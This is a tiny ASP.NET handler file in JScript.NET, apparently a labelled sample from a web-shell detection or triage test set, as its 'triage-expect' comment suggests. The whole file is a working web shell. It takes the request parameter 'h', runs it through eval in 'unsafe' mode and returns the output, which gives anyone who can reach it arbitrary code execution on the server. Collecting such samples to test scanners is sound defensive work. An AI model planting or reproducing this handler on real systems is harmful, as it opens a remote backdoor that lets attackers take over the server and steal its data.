<%@ WebHandler Language="JScript" Class="H" %>
// triage-expect: triage_aspx_jscript_eval
import System.Web;
class H implements IHttpHandler {
    function ProcessRequest(ctx : HttpContext) { var c = ctx.Request["h"]; ctx.Response.Write(eval(c, "unsafe")); }
    function get IsReusable() : Boolean { return false; }
}
